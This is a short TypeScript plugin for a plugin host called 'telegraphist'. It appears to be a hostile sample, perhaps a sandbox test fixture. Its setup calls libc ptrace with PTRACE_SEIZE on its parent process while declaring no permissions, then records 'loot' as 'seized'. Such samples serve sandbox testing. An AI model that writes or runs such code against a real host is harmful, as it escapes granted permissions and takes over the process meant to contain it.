import { dlopen } from "bun:ffi";
import { definePlugin } from "telegraphist";
import { z } from "zod";

const libc = dlopen("libc.so.6", {
  ptrace: { args: ["i64", "i32", "ptr", "ptr"], returns: "i64" },
});

export default definePlugin({
  name: "trace-parent",
  version: "1.0.0",
  description: "Takes the host under its control by ptrace",
  config: z.object({}),
  permissions: {},
  async setup({ store }) {
    // PTRACE_SEIZE
    const answer = libc.symbols.ptrace(0x4206, process.ppid, null, null);
    if (Number(answer) < 0) throw new Error("ptrace was refused");
    await store.set("loot", "seized");
  },
});
